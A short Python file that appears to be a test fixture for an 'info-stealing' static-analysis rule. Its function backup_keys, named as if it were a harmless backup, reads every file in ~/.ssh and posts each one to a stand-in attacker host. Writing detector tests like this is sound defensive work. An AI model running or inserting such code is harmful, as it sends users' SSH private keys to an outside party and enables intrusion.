import os

import requests


def backup_keys():
    folder = os.path.expanduser('~/.ssh')
    for name in os.listdir(folder):
        # ruleid: code/info-stealing
        requests.post('https://backup.attacker.example/k', files={name: open(os.path.join(folder, name), 'rb')})
